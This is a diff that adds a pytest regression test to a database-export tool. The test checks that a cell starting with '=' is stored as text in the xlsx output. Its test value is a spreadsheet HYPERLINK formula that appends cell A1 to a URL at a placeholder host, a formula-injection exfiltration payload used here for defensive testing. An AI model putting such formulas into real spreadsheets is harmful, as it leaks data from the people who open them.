@@ -196,3 +196,16 @@ def test_unknown_region_names_the_known_ones(con, db: Path, tmp_path: Path):
         export(db, tmp_path, "csv", [regions[0], "Атлантида"])
     assert "Атлантида" in str(info.value) and all(r in str(info.value) for r in regions)
     assert not any(tmp_path.iterdir()), "nothing is written when the filter is wrong"
+
+
+def test_xlsx_keeps_a_cell_that_starts_with_an_equals_sign_as_text(db: Path, tmp_path: Path):
+    """A document's cell "=HYPERLINK(...)" was written as a formula, which Excel evaluates on opening."""
+    own = tmp_path / "formula.duckdb"
+    shutil.copy(db, own)
+    text = '=HYPERLINK("http://example.invalid/?"&A1, "подробнее")'
+    with duckdb.connect(str(own)) as con:
+        con.execute("UPDATE projects SET name = ? WHERE project_id = (SELECT min(project_id) FROM projects)", [text])
+    export(own, tmp_path / "out", "xlsx")
+    sheet = load_workbook(tmp_path / "out" / WORKBOOK_NAME)[t.Project.table]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == text]
+    assert len(cells) == 1 and cells[0].data_type == "s"
